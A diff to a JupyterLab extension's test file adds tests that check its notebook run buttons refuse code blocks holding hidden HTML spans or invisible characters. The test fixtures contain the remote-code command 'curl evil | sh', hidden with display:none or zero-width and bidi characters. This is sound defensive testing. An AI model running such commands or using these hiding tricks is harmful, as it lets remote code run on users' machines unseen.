@@ -22,11 +22,14 @@ import {
 /**
  * A markdown parser for the tests (JupyterLab's `marked` is an ES module
  * jest does not load): fenced blocks become `<pre><code>`, other lines
- * paragraphs, all escaped.
+ * paragraphs, all escaped, but lines starting with `<`, which stay raw
+ * HTML as in markdown.
  */
 function toHtml(source: string): string {
   const escape = (text: string) =>
     text.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;');
+  const paragraph = (line: string) =>
+    line.startsWith('<') ? line : `<p>${escape(line)}</p>`;
   const lines = source.split('\n');
   const blocks = parseMarkdown(source).filter(part => part.kind === 'block');
   const html: string[] = [];
@@ -38,7 +41,7 @@ function toHtml(source: string): string {
     lines
       .slice(at, block.line)
       .filter(line => line.trim())
-      .forEach(line => html.push(`<p>${escape(line)}</p>`));
+      .forEach(line => html.push(paragraph(line)));
     const language = block.info ? ` class="language-${block.info}"` : '';
     html.push(`<pre><code${language}>${escape(block.body)}\n</code></pre>`);
     at = block.line + block.body.split('\n').length + 2;
@@ -46,7 +49,7 @@ function toHtml(source: string): string {
   lines
     .slice(at)
     .filter(line => line.trim())
-    .forEach(line => html.push(`<p>${escape(line)}</p>`));
+    .forEach(line => html.push(paragraph(line)));
   return html.join('\n');
 }
 
@@ -492,5 +495,81 @@ describe('run buttons on the blocks of a notebook', () => {
     await settle();
     expect(codeBar(notebook, 1)).toBeNull();
     expect(barsIn(renderedOf(notebook)).map(labels)).toEqual([['Copy']]);
+  });
+
+  it('puts no bar on raw HTML blocks, and sends a fenced block’s source', async () => {
+    const { notebook, runs } = await setUp([
+      {
+        cell_type: 'markdown',
+        metadata: {},
+        id: 'raw',
+        source: [
+          '<pre># run on node1&#10;curl evil | sh</pre>',
+          '<pre><code># run on node1&#10;ls<span style="display:none">; curl evil | sh</span></code></pre>',
+          '',
+          '```bash',
+          '# run on node1',
+          'ls',
+          '```'
+        ].join('\n')
+      }
+    ]);
+    const rendered = renderedOf(notebook);
+    const pres = Array.from(rendered.querySelectorAll('pre'));
+    expect(pres).toHaveLength(3);
+    const bars = barsIn(rendered);
+    expect(bars).toHaveLength(1);
+    expect(bars[0].nextElementSibling).toBe(pres[2]);
+    bars[0].querySelector<HTMLElement>('.jp-testbed-RunButton')!.click();
+    expect(runs.map(r => r.text)).toEqual(['# run on node1\nls']);
+  });
+
+  it('refuses a block with hidden parts or invisible characters, saying why', async () => {
+    const { notebook, runs, copies } = await setUp([
+      {
+        cell_type: 'markdown',
+        metadata: {},
+        id: 'hidden',
+        source: [
+          // Raw HTML that shows "ls" and holds the fenced block's text
+          // (which it then takes: the fenced block itself gets no bar).
+          '<pre><code># run on node1&#10;ls<span style="display:none">; curl evil | sh</span></code></pre>',
+          '',
+          '```bash',
+          '# run on node1',
+          'ls; curl evil | sh',
+          '```',
+          '',
+          '```bash',
+          '# run on node1',
+          'echo ok\u200b; curl evil | sh',
+          '```'
+        ].join('\n')
+      },
+      {
+        cell_type: 'code',
+        metadata: {},
+        id: 'code',
+        source: '# run on node1\necho \u202eok',
+        outputs: [],
+        execution_count: null
+      }
+    ]);
+    const rendered = renderedOf(notebook);
+    const bars = barsIn(rendered);
+    expect(bars.map(bar => bar.textContent)).toEqual([
+      'Not run or copied: part of the block is hidden on the page.',
+      'Not run or copied: line 2 holds the invisible or control character U+200B.'
+    ]);
+    expect(bars[0].nextElementSibling).toBe(rendered.querySelector('pre'));
+    bars.forEach(bar => {
+      expect(bar.querySelector('button')).toBeNull();
+      expect(bar.querySelector('.jp-testbed-RunBar-refused')).not.toBeNull();
+    });
+    expect(codeBar(notebook, 1)!.textContent).toBe(
+      'Not run or copied: line 2 holds the invisible or control character U+202E.'
+    );
+    expect(runs).toEqual([]);
+    expect(copies).toEqual([]);
   });
 });
